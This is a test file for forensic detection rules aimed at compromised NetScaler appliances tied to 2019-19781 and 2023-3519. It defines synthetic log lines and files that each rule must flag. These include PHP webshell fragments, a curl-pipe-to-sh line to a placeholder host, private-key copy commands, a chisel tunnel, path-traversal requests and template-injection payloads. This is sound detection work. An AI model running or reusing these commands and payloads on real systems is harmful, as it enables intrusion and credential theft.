import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { canonicalPath } from '../../src/evidence/canonical-path.ts';
import { evidence, type FixtureFile } from '../fixtures/evidence.ts';
import { scanSource } from '../fixtures/scan-sample.ts';

/**
 * Rows of the coverage notes held against evidence: what a row names is put where reports found it, and a rule that the row names has to see it
 * there. Hashes and Windows' own traces cannot be made. Payloads leave before anything runs.
 */
type Files = Readonly<Record<string, FixtureFile | string>>;
interface Row {
  readonly kind: string;
  readonly id: string;
  readonly rules: readonly string[];
}

const collected = new Date('2023-07-22T09:30:12Z');
const rowsOf = (pack: string): readonly Row[] =>
  parse(readFileSync(join(import.meta.dirname, `../../rules/${pack}/coverage.yml`), 'utf8')).coverage;

const access = (request: string, status = 200, client = '198.51.100.8'): string =>
  `${client} - - [21/Jul/2023:07:44:10 +0000] [30411] "${request} HTTP/1.1" ${status} 318 "-" "curl/7.61.0" "Time: 1823 microsecs"\n`;
const shell = (command: string, user = 'root'): string =>
  `Jul 21 02:10:44 <local7.notice> ns01 sh[5512]: ${user} on (null) shell_command="${command}"\n`;
const audit = (payload: string): string =>
  `Jul 21 09:15:01 <local0.info> 192.0.2.10  07/21/2023:07:15:01 GMT ns01 0-PPE-0 : default ${payload}\n`;
const process = (user: string, command: string): string =>
  `USER       PID  %CPU %MEM     VSZ    RSS  TT  STAT STARTED         TIME COMMAND\n${user.padEnd(9)} 4711   0.0  0.1   11040   8096  -   I    4:12AM     0:00.03 ${command}\n`;
const elf = (text: string): FixtureFile => ({
  content: Buffer.concat([Buffer.from('7f454c4602010109', 'hex'), Buffer.alloc(64), Buffer.from(`\0${text}\0`)]),
  mode: 0o755,
});
const php = (body: string): FixtureFile => ({ content: `<?php exit; /* inert */ ${body} ?>\n`, mode: 0o644 });
const gzip = (): FixtureFile => ({ content: Buffer.from('1f8b080000000000000300', 'hex') });

/** A path of a row with its patterns filled in. */
const filled = (path: string): string =>
  path
    .replace('[a-f0-9]{32}', '0123456789abcdef0123456789abcdef')
    .replace('[A-Za-z0-9]{1,12}', 'abc1')
    .replace('(php|pl)', 'php')
    .replace(/\{([^}]*)\}/g, (_, choices: string) => choices.split(',').at(-1)!)
    .replace('**/xui', '/var/netscaler/gui/vpn/xui')
    .replace('**/database', '/var/netscaler/logon/LogonPoint/database')
    .replace('/**/', '/linux/')
    .replace('/*/', '/win/')
    .replace('*.', 'zq.')
    .replace(/^\/vpn\//, '/var/netscaler/gui/vpn/')
    .replace(/^\/logon\//, '/var/netscaler/logon/');

function fileOf(path: string): FixtureFile | string {
  if (path.endsWith('.php')) return php('system($_POST["q"]);');
  if (path.endsWith('.js')) return '#NS13.1 Build 45.61\nset ns config -IPAddress 192.0.2.10\n';
  if (/\.(?:css|png)$/.test(path)) return gzip();
  if (path.endsWith('.tar.gz')) return 'Salted__aaaaaaaa';
  if (path.endsWith('.pl')) return '#!/usr/bin/perl\nexit;\n';
  return path.endsWith('/nobody') ? '* * * * * /var/nstmp/.nscache/httpd\n' : elf('x');
}

const page = '/var/netscaler/logon/LogonPoint/custom/zq.php';
const bookmark = (text: string): Files => ({
  '/var/vpn/bookmark/zq.xml': { content: text, owner: 'nobody', uid: 65_534 },
});
const title = (text: string): Files =>
  bookmark(`<user username="a"><bookmarks><bookmark title="${text}" url="http://example.org"/></bookmarks></user>`);
const typed = (command: string): Files => ({ '/var/log/bash.log': shell(command) });

const made: Readonly<Record<string, Files>> = {
  // 2023-3519
  'formssso-overflow-log': {
    '/var/log/ns.log': audit('SSLVPN Message 1 0 :  "GWTEST FORMS SSO: Parse=0; URLLEN=2118; Event: start=0x3f"'),
  },
  'nsppe-crash': { '/var/core/3/NSPPE-00-1187.gz': gzip() },
  'php-in-webroot': { '/var/netscaler/gui/vpns/theme/default/zq.php': php('') },
  'js-staging-in-themes': { '/var/vpn/themes/zq.js': '#NS13.1 Build 45.61\nset ns config -IPAddress 192.0.2.10\n' },
  'setuid-not-in-baseline': { '/var/tmp/bash': { ...elf('x'), mode: 0o4755 } },
  'nobody-root-ownership': { '/var/vpn/themes/x.html': { content: '<html>', owner: 'nobody', uid: 65_534, gid: 0 } },
  'shell-log-postex': typed('cat /flash/nsconfig/keys/updated/.F1.key'),
  'cron-var-tmp': { '/etc/crontab': '0\t*\t*\t*\t*\troot\t/var/tmp/the -q\n' },
  'rc-netscaler-suid-or-php': { '/nsconfig/rc.netscaler': 'chmod u+s /bin/sh\n' },
  'logon-page-remote-js': {
    '/var/netscaler/logon/LogonPoint/index.html':
      '<html><script src="https://a.example.net/jquery.js"></script></html>',
  },
  'webshell-traffic': { '/var/log/httpaccess-vpn.log': access('POST /logon/LogonPoint/uiareas/linux/zq.php') },
  'hasync-stopped': typed('pkill nsfsyncd'),
  'restricted-shell-escape': {
    '/var/log/ns.log': audit(
      'CLI CMD_EXECUTED 211 0 :  User readonly1 - ADM_User NONE - Remote_ip 192.0.2.60 - Command "man ls" - Status "Success"',
    ),
  },
  'any executable running from /var/tmp': { '/shell/ps-auxwr.out': process('root', '/var/tmp/zq') },
  'user nobody, executable other than /bin/httpd': { '/shell/ps-auxwr.out': process('nobody', '/usr/local/zq') },
  npc: { '/shell/ps-auxwr.out': process('root', '/var/tmp/npc -config x') },
  'ligolo-ng': { '/shell/ps-auxwr.out': process('root', '/var/tmp/ligolo-ng -x'), '/var/tmp/zq': elf('ligolo-ng') },
  '/gwtest/formssso?event=start&target=<over-long>': {
    '/var/log/httpaccess.log': access(`GET /gwtest/formssso?event=start&target=${'A'.repeat(2000)}`),
  },
  '/logon/LogonPoint/uiareas/*.php': { '/var/log/httpaccess-vpn.log': access('POST /logon/LogonPoint/uiareas/zq.php') },
  'http_response_code(NNN)': { [page]: php('http_response_code(404);') },
  'str_rot13(': { [page]: php('eval(str_rot13(base64_decode("x")));') },
  'base64_decode($_POST': { [page]: php('$x = base64_decode($_POST["a"]);') },
  '@$_POST': { [page]: php('@$_POST["a"](@$_POST["b"]);') },
  'eval($_POST': { [page]: php('eval($_POST["a"]);') },
  'eval($_GET': { [page]: php('eval($_GET["a"]);') },
  '@eval(': { [page]: php('@eval($_POST["a"]);') },
  '@array_filter': { [page]: php('@array_filter(array($_POST["a"]), "assert");') },
  'hex2bin(substr(': { [page]: php('eval(hex2bin(substr($_POST["a"], 2)));') },
  'Expires: Wed, 11 Jan 1984 05:00:00': { [page]: php('header("Expires: Wed, 11 Jan 1984 05:00:00 GMT");') },
  blv_encode: { [page]: php('function blv_encode($d) { return $d; }') },
  sayhello: { [page]: php('echo sayhello();') },
  "get('openssl_public_decrypt')": { [page]: php("$z->run($z->get('openssl_public_decrypt'));") },
  'SECRETSAUCE pair (2 of 3)': { [page]: php('class A { public $cmd; function run($a) { return @eval($a); } }') },
  'SECRETSAUCE loop (3 of 3)': { [page]: php('for ($x=0; $x<=1; $x++) { $a = $_REQUEST["x"]; @eval($a); }') },
  '#nssecret#': { [page]: php('echo "#nssecret#";') },
  uRemote: { [page]: php('$uRemote = 1;') },
  '<?=`curl': { [page]: '<?=`curl http://198.51.100.9/a`?>\n' },
  '168.100.11.89:8000': typed('curl 168.100.11.89:8000/a'),
  'github.com/lcvvv/kscan': { '/var/tmp/zq': elf('github.com/lcvvv/kscan') },
  'chmod u+s': typed('chmod u+s /bin/sh'),
  'sshd/server.go': { '/var/tmp/zq': elf('sshd/server.go') },
  'test/httpdemo/main.go': { '/var/tmp/zq': elf('test/httpdemo/main.go') },
  'ehang.io/nps': { '/var/tmp/zq': elf('ehang.io/nps') },
  '[library-to-inject]': { '/var/tmp/zq': elf('[library-to-inject]') },
  'UPX executable': {
    '/var/tmp/zq': elf('UPX!  $Info: This file is packed with the UPX executable packer http://upx.sf.net $'),
  },
  passwd_hook: { '/var/tmp/zq': elf('passwd_hook') },
  'cat /flash/nsconfig/ns.conf >>': typed('cat /flash/nsconfig/ns.conf >> /var/tmp/a'),
  'cat /nsconfig/.F1.key >>': typed('cat /nsconfig/.F1.key >> /var/tmp/a'),
  'openssl base64 -d < /tmp/': typed('openssl base64 -d < /tmp/x > /tmp/y'),
  '-out /var/tmp/test.tar.gz': typed('openssl des3 -salt -k x -out /var/tmp/test.tar.gz'),
  '/test.tar.gz /netscaler/': typed('cp /var/tmp/test.tar.gz /netscaler/ns_gui/vpn/a.png'),
  '(&(servicePrincipalName=*)(UserAccountControl:1.2.840.113556.1.4.803:=512)(!(UserAccountControl:1.2.840.113556.1.4.803:=2))(!(objectCategory=computer)))':
    typed(
      'ldapsearch -x -D a -w b (&(servicePrincipalName=*)(UserAccountControl:1.2.840.113556.1.4.803:=512)(!(UserAccountControl:1.2.840.113556.1.4.803:=2))(!(objectCategory=computer)))',
    ),
  // 2019-19781
  'vpns-template-render': { '/var/log/httpaccess.log': access('GET /vpn/..%2f%76pns/portal/kqzvwhtm.%78ml', 304) },
  'vpns-pl-not-modified': { '/var/log/httpaccess.log': access('POST /vpn/../vpns/portal/scripts/newbm.pl', 304) },
  'vpns-write-then-render': {
    '/var/log/httpaccess.log':
      access('POST /vpn/../vpns/portal/scripts/newbm.pl') + access('GET /vpns/portal/kqzvwhtm.xml'),
  },
  'vpns-probe-answered': { '/var/log/httpaccess.log': access('GET /vpn/../vpns/cfg/smb.conf') },
  'bookmark-xml-directive': title('[% readpipe(1) %]'),
  'copied-config-in-portal': {
    '/netscaler/portal/templates/a.xml': '#NS13.0 Build 47.22\nset ns config -IPAddress 192.0.2.1\n',
  },
  'error-log-shell-noise': { '/var/log/httperror.log': 'cat: /proc/cpuinfo: No such file or directory\n' },
  'nobody-cron': { '/var/cron/tabs/nobody': '* * * * * /var/nstmp/.nscache/httpd\n' },
  'nobody-shell-commands': { '/var/log/bash.log': shell('id', 'nobody') },
  'nobody-foreign-process': { '/shell/ps-auxwr.out': process('nobody', '/var/nstmp/.nscache/httpd') },
  'mode-644-in-portal': { '/var/vpn/themes/zq.php': php('') },
  'portal-script-baseline': { '/netscaler/portal/scripts/zq.pl': '#!/usr/bin/perl\nexit;\n' },
  '/tmp/.init/httpd': { '/shell/ps-auxwr.out': process('nobody', '/tmp/.init/httpd'), '/tmp/.init/httpd': elf('x') },
  '/var/nstmp/.nscache/httpd': {
    '/shell/ps-auxwr.out': process('nobody', '/var/nstmp/.nscache/httpd'),
    '/var/nstmp/.nscache/httpd': elf('x'),
  },
  netscalerd: { '/shell/ps-auxwr.out': process('nobody', '/var/tmp/netscalerd') },
  chisel: { '/shell/ps-auxwr.out': process('root', '/var/tmp/chisel client 198.51.100.9:443 R:socks') },
  '18634/udp': {
    '/shell/sockstat.out':
      'USER     COMMAND    PID   FD PROTO  LOCAL ADDRESS         FOREIGN ADDRESS\nnobody   httpd      43544 10 udp4   *:18634               *:*\n',
  },
  '/vpns/portal/<random>.xml': { '/var/log/httpaccess.log': access('GET /vpns/portal/kqzvwhtm.xml') },
  '/vpn/../vpns/cfg/smb.conf': { '/var/log/httpaccess.log': access('GET /vpn/../vpns/cfg/smb.conf', 403) },
  'template.new': title("[% template.new({'BLOCK'='print 1'}) %]"),
  "template.new({'BLOCK'=": title("[% template.new({'BLOCK'='print 1'}) %]"),
  'Encode::decode(chr(': title('[% Encode::decode(chr(1)) %]'),
  pwnpzi1337: bookmark('<user username="pwnpzi1337"></user>'),
  test1337: title("[% template.new({'BLOCK'='test1337'}) %]"),
  'tee /netscaler/portal/templates/': typed('echo x | tee /netscaler/portal/templates/a.xml'),
  'my ($citrixmd, %FORM);': { '/netscaler/portal/scripts/zq.pl': '#!/usr/bin/perl\nexit;\nmy ($citrixmd, %FORM);\n' },
  '<user username="../': bookmark('<user username="../../../netscaler/portal/templates/a"></user>'),
  "datafile('/nsconfig/ns.conf')": title("[% USE d = datafile('/nsconfig/ns.conf') %]"),
  'Could not execute command': {
    '/netscaler/portal/scripts/zq.pl': '#!/usr/bin/perl\nexit;\nprint "Could not execute command";\n',
  },
  '64d4c2d3ee56af4f4ca8171556d50faa': typed('curl -k https://198.51.100.9/64d4c2d3ee56af4f4ca8171556d50faa -o x'),
  'eternalblue.replay': typed('python eternalblue.replay x'),
  'piz.Lan': typed('python piz.Lan x'),
  'ci.sh': typed('curl http://198.51.100.9/ci.sh | sh'),
};

/** The rest: texts that are commands as they stand, and requests to the portal's scripts. */
function asItStands({ kind, id }: Row): Files | undefined {
  if (kind === 'string' && /^(?:cp|chmod|pwd|tar|cat) ?/.test(id)) return typed(id);
  return kind === 'uri' && id.endsWith('.pl') ? { '/var/log/httpaccess.log': access(`POST ${id}`, 304) } : undefined;
}

/** Everything that the indicator lists of a pack hold. */
function listed(pack: string): ReadonlySet<string> {
  const folder = join(import.meta.dirname, `../../rules/${pack}/lists`);
  const lists = readdirSync(folder).map((name) => parse(readFileSync(join(folder, name), 'utf8')));
  return new Set(lists.flatMap((list) => list.indicators.map(({ value }: { value: string }) => value)));
}

const namesOf = async (files: Files): Promise<readonly string[]> => {
  const { findings } = await scanSource(evidence(files, { collected }), collected.getTime());
  return findings.map(({ rule }) => rule.name);
};

describe.each(['2019-19781', '2023-3519'])('%s', (pack) => {
  const rows = rowsOf(pack).filter(({ rules }) => rules.length > 0);
  const of = (...kinds: readonly string[]) => rows.filter(({ kind }) => kinds.includes(kind));

  test('every address, domain and hash of a row stands in a list', () => {
    const values = listed(pack);
    const missing = of('ipv4', 'domain', 'sha256', 'md5').filter(({ id }) => !values.has(id));
    expect(missing.map(({ id }) => id)).toEqual([]);
  });

  test.each(of('ipv4').slice(0, 1))('the lists are looked for: $id', async ({ id, rules }) => {
    const found = await namesOf({
      '/var/log/httpaccess.log': access('GET /', 200, id),
      ...typed(`curl http://${id}/x`),
    });
    expect(found.filter((name) => rules.includes(name))).toHaveLength(2);
  });

  // One examination for all of them: each is its own file.
  const paths = of('path').filter(({ id }) => !id.includes('(absent)'));
  const together = Object.fromEntries(paths.map(({ id }) => [filled(id), fileOf(filled(id))]));
  const seen = scanSource(evidence(together, { collected }), collected.getTime());
  test.each(paths)('path $id', async ({ id, rules }) => {
    const path = canonicalPath(filled(id));
    const found = (await seen).findings.filter((finding) => finding.path === path).map(({ rule }) => rule.name);
    expect({ found, isMet: rules.some((name) => found.includes(name)) }).toMatchObject({ isMet: true });
  });

  test.each(of('behaviour', 'string', 'uri', 'process', 'port', 'user_agent'))('$kind $id', async (row) => {
    const files = made[row.id] ?? asItStands(row);
    expect(files).toBeDefined();
    const found = await namesOf(files ?? {});
    expect({ found, isMet: row.rules.some((name) => found.includes(name)) }).toMatchObject({ isMet: true });
  });
});
